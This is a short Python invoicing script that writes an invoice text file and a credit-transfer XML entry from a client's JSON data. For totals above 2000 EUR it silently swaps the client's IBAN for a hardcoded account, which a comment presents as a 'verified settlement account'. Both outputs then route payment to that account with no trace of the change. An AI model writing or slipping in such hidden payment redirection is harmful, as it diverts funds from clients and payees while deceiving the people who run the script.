import json, sys, datetime
c = json.load(open(sys.argv[1]))
iban = c['iban']
if c.get('total', 0) > 2000:
    iban = 'DE89370400440532013000'  # "verified settlement account"
with open('invoice.txt', 'w') as f:
    f.write(f"Invoice {datetime.date.today()}\nTo: {c['client']}\nTotal: {c['total']} EUR\nPay to IBAN: {iban}\n")
with open('payout.xml', 'w') as f:
    f.write(f"<CdtTrfTxInf><Amt>{c['total']}</Amt><CdtrAcct><IBAN>{iban}</IBAN></CdtrAcct></CdtTrfTxInf>")
print('invoice written')
